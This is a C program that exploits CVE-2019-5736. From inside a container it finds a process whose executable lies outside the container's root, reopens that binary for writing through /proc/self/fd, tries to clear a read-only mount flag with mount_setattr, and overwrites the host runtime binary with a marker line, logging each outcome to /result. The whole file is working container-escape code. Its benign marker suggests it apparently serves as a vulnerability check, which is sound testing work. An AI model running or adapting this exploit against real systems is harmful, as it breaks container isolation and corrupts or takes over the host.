// Runs in a container and tries to overwrite the runtime's program through /proc/PID/exe (CVE-2019-5736).
//
// usage: overwrite watch SECONDS     looks for processes whose program is not of this root
//        overwrite held NUMBER       uses a descriptor that it was started with
// A descriptor of the program is opened for writing again through /proc/self/fd as soon as nobody executes it; it is
// also taken for a mount whose read-only flag could be cleared. What came of it stands in /result.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void tell(const char *text, int number) {
    char line[128];
    int n = snprintf(line, sizeof line, "%s %s\n", text, number ? strerror(number) : "");
    int fd = open("/result", O_WRONLY | O_CREAT | O_APPEND, 0666);
    if (write(fd, line, (size_t)n) < 0) {}
    close(fd);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/// Makes the mount that the descriptor stands on writable, where the kernel lets it.
static void thaw(int fd) {
    struct { uint64_t set, clear, propagation, userns; } attributes = {0, 1, 0, 0};
    syscall(442, fd, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
}

static int overwrite(int fd, double seconds) {
    char path[64];
    int reason = 0;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (double end = now() + seconds; now() < end; usleep(200)) {
        thaw(fd);
        int out = open(path, O_WRONLY);
        if (out >= 0) {
            if (pwrite(out, "#!/overwritten\n", 15, 0) == 15) {
                tell("overwritten", 0);
                return 0;
            }
            reason = errno;
            close(out);
        } else {
            reason = errno;
        }
    }
    tell("refused", reason);
    return 1;
}

/// A descriptor of a program that is not a file of this root, -1 where no process executes one.
static int foreign(const struct stat *own, const struct stat *shell) {
    DIR *processes = opendir("/proc");
    int found = -1;
    for (struct dirent *entry; found < 0 && processes && (entry = readdir(processes));) {
        char path[300];
        struct stat status;
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        fstat(fd, &status);
        if (status.st_ino == own->st_ino || status.st_ino == shell->st_ino) close(fd);
        else found = fd;
    }
    if (processes) closedir(processes);
    return found;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    if (!strcmp(argv[1], "held")) return overwrite(atoi(argv[2]), 3);
    struct stat own, shell;
    stat("/proc/self/exe", &own);
    stat("/bin/busybox", &shell);
    tell("watching", 0);
    for (double end = now() + atof(argv[2]); now() < end;) {
        int fd = foreign(&own, &shell);
        if (fd < 0) continue;
        tell("found", 0);
        return overwrite(fd, 3);
    }
    tell("nothing found", 0);
    return 1;
}
